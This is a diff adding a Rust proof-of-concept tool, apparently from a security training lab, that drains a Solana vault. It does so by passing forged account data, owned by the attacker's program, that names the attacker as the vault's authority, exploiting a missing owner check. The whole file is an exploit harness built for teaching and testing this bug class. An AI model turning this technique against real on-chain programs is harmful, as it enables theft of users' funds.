@@ -0,0 +1,48 @@
+//! poc-missing-owner-check: withdraws a vault on the say of forged data
+//!
+//! ```bash
+//! poc-missing-owner-check --victim VAULT --forged-data ACCOUNT [--rpc URL]
+//! ```
+//!
+//! The forged data is a copy of the vault's data naming the attacker as its
+//! authority, in an account the attacker's own program owns. No example
+//! instruction writes either account, so both have to be on the cluster
+//! already.
+
+use std::process::ExitCode;
+
+use anyhow::Result as AnyResult;
+use clap::Parser;
+use lab_client::missing_owner_check::Client;
+use lab_pocs::{Exploit, Report, Target};
+use solana_program::pubkey::Pubkey;
+
+#[derive(Parser)]
+#[command(
+    name = "poc-missing-owner-check",
+    about = "Withdraw everything in a missing_owner_check vault through data another program owns"
+)]
+struct Args {
+    #[command(flatten)]
+    target: Target,
+    /// The vault to drain
+    #[arg(long)]
+    victim: Pubkey,
+    /// The attacker's copy of the vault's data, naming them its authority
+    #[arg(long)]
+    forged_data: Pubkey,
+}
+
+fn main() -> ExitCode {
+    lab_pocs::run(poc)
+}
+
+async fn poc(args: Args) -> AnyResult<Report> {
+    let client = Client::new(args.target.client("missing_owner_check")?);
+    let mut report = Report::new("missing_owner_check", &args.target, &client);
+    let vault = args.victim;
+    report.inspect(&client, "before", vault).await?;
+    let drained = client.exploit_drain(args.forged_data, vault).await;
+    report.inspect(&client, "after", vault).await?;
+    Ok(report.exploit(vault, drained.map(|stolen| Exploit::took(stolen, vault))))
+}